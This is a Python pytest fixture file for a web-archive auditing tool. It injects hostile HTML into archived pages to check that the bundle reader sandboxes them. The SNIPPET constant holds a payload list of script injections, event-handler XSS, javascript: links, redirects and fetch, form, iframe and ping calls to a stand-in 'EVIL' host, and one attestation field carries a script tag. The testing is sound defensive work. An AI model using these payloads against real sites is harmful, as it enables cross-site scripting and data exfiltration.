"""Bundles to be read: of a city that does well and states some of it, and the same with hostile texts and pages."""

from __future__ import annotations

import shutil
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from auditor import archive
from auditor.archive import Archive
from auditor.reader.server import Server
from auditor.screenshots import available
from fixtures.city.both import play_both
from tests import browser
from tests.cli import audit, run
from tests.pictures import png
from tests.reader.readers import poisoned, read

ATTESTED = """
[[attestation]]
criterion = "DM1"
person = "Ada Example"
role = "Chief Data Officer"
date = 2026-03-01
statement = "The group meets each quarter. </dd><script>window.evil=9</script>"
file = "charter.txt"

[[attestation]]
criterion = "LC1"
person = "Ben Sample"
role = "City Manager"
date = 2025-03-01
expires = 2025-09-01
statement = "It was said in public."
link = "https://www.example.gov/speech"
"""
#: What a page may try. EVIL stands for a host that listens and must hear nothing.
SNIPPET = """
<script>window.evil=1; try { top.location='http://EVIL/top' } catch (e) {} alert(1); fetch('http://EVIL/fetch')</script>
<base href="http://EVIL/base/"><meta http-equiv="refresh" content="0;url=http://EVIL/refresh">
<img src=x onerror="window.evil=2"><img src="http://EVIL/pixel.png" srcset="http://EVIL/set.png 2x">
<svg onload="window.evil=3"><a xlink:href="javascript:window.evil=4"><text y="20">svg</text></a>
<image href="http://EVIL/svg.png"/><use href="http://EVIL/use.svg#a"/>
<set attributeName="href" to="javascript:alert(1)"/>
<foreignObject><iframe src="http://EVIL/foreign"></iframe></foreignObject></svg>
<form id="f" action="http://EVIL/form" target="_top"><input name="a" autofocus onfocus="window.evil=5">
<button id="send">send</button></form>
<a id="trap" href="javascript:window.evil=6">run</a> <a id="out" target="_top" href="http://EVIL/out">out</a>
<a id="pop" target="_blank" href="http://EVIL/pop">pop</a>
<iframe src="http://EVIL/frame" srcdoc="<script>top.evil=7</script>"></iframe>
<object data="http://EVIL/object"></object><embed src="http://EVIL/embed">
<video src="http://EVIL/video" autoplay></video>
<link rel="stylesheet" href="http://EVIL/sheet.css"><link rel="prefetch" href="http://EVIL/prefetch">
<style>@import "http://EVIL/import.css"; body { background: url(http://EVIL/body.png) }</style>
<div style="background:url('//EVIL/style.png')">styled</div>
<mark id="auditor-quote">decoy</mark></mark></mark><template><mark id="auditor-quote">decoy</mark></template>
<details open ontoggle="window.evil=8"><summary>more</summary>more</details>
<input type="image" src="http://EVIL/input.png"><a ping="http://EVIL/ping" href="http://EVIL/pinged">ping</a>
"""


@pytest.fixture(scope="session")
def audited(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder of an audit with pages, links and attestations; read only."""
    place = tmp_path_factory.mktemp("read")
    (place / "form.toml").write_text(ATTESTED, encoding="utf-8")
    (place / "charter.txt").write_text("The charter. Write to jane.roe@example.gov\n", encoding="utf-8")
    with play_both("city-exemplary", faults=["hostile_strings"]) as (city, portal):
        more = ["--quiet", "--home", city.url, "--depth", "standard", "--attest", str(place / "form.toml")]
        more += [] if available() else ["--screenshots"]
        done = audit(portal.url, place / "audit", *more)
    assert done.code in (0, 4), done.err
    return place / "audit"


@pytest.fixture(scope="session")
def evil() -> Iterator[Evil]:
    """A host that must hear nothing."""
    with Evil() as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
        thread.start()
        yield server
        server.shutdown()
        thread.join()


class Evil(ThreadingHTTPServer):
    """Remembers every path it was asked for."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Heard)
        self.heard: list[str] = []
        self.netloc = f"127.0.0.1:{self.server_port}"


class _Heard(BaseHTTPRequestHandler):
    server: Evil

    def do_GET(self) -> None:  # the name http.server asks for
        self.server.heard.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_HEAD = do_GET

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture(scope="session")
def hostile(audited: Path, evil: Evil, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A bundle in which every archived page holds the snippet; read only."""
    place = tmp_path_factory.mktemp("hostile")
    shutil.copytree(audited, place / "poisoned")
    assert poisoned(place / "poisoned" / "captures", SNIPPET.replace("EVIL", evil.netloc)) > 10
    done = run("audit", "--from", str(place / "poisoned"), "--out", str(place / "again"), "--quiet")
    assert done.code in (0, 4), done.err
    return place / "again" / "evidence.wacz"


@pytest.fixture(scope="session")
def dressed(audited: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A bundle whose pages have a style sheet and pictures that are in the archive; read only."""
    place = tmp_path_factory.mktemp("dressed")
    shutil.copytree(audited, place / "styled")
    captures = place / "styled" / "captures"
    poisoned(
        captures, '<link rel="stylesheet" href="/look.css"><img id="one" src="/one.png"><img id="two" src="/two.png">'
    )
    hosts = {"/".join(one.url.split("/")[:3]) for one in archive.read(captures) if one.media_type == "text/html"}
    looks = {
        "/look.css": ("text/css", b"p { color: rgb(1, 2, 3) } body { background: url(/one.png) }"),
        "/one.png": ("image/png", png(7, 5)),
        "/two.png": ("image/png", png(7, 5)),
    }
    with Archive(archive.next_file(captures), "test/1") as kept:
        for host in sorted(hosts):
            for path, (kind, body) in looks.items():
                kept.write(
                    url=host + path,
                    method="GET",
                    request_headers=[],
                    request_body=b"",
                    status_line="HTTP/1.1 200 OK",
                    headers=[("Content-Type", kind)],
                    body=body,
                    address="127.0.0.1",
                )
    done = run("audit", "--from", str(place / "styled"), "--out", str(place / "again"), "--quiet")
    assert done.code in (0, 4), done.err
    return place / "again" / "evidence.wacz"


@pytest.fixture
def bundle(audited: Path, tmp_path: Path) -> Path:
    """A bundle of one's own."""
    return Path(shutil.copy(audited / "evidence.wacz", tmp_path / "evidence.wacz"))


@pytest.fixture(scope="session")
def served(audited: Path) -> Iterator[Server]:
    """A reader for all tests that only look."""
    with read(audited / "evidence.wacz") as server:
        yield server


@pytest.fixture(scope="module")
def chromium(audited: Path) -> Iterator[Any]:
    """A browser. One driver of Playwright runs in a thread at a time: this one ends with its module, and the audit,
    which starts one to take its pictures, comes before."""
    with browser.chromium() as opened:
        yield opened
